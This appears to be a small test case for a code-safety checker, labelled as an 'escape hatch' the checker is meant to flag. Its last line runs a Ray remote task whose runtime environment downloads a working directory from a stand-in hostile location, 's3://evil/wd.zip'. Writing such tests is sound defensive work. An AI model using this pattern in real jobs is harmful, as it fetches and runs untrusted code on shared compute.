# expect: safety.runtime-env
# class: 8-escape-hatches
import ray
ds = ray.data.read_csv(inputs["sales"])
@ray.remote
def f():
    return 1
result = ray.get(f.options(runtime_env={'working_dir': 's3://evil/wd.zip'}).remote())
